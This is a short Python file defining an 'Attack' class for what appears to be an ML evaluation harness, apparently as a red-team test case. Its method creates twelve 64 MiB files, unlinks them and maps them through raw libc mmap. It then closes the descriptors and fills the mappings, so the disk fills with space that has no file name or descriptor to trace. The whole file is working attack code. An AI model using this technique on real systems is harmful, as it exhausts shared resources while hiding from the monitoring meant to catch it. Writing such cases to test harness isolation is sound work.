"""Fills files without a name through mappings alone: no descriptor is left, no name, and the disk is full."""

import ctypes
import mmap
import os
import time

from aim import HOME, LIBC, MIB, loot

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        LIBC.mmap.restype = ctypes.c_void_p
        held = []
        for number in range(12):
            file = os.open(f"{HOME}/part{number}", os.O_RDWR | os.O_CREAT)
            os.unlink(f"{HOME}/part{number}")
            os.ftruncate(file, 64 * MIB)
            # By hand: Python keeps a descriptor for every mapping.
            place = LIBC.mmap(
                None, ctypes.c_size_t(64 * MIB), mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED, file, ctypes.c_long(0)
            )
            os.close(file)
            ctypes.memset(place, 1, 64 * MIB)
            held.append(place)
        time.sleep(1.2)
        loot(f"{64 * len(held)} MiB without a name or a descriptor")
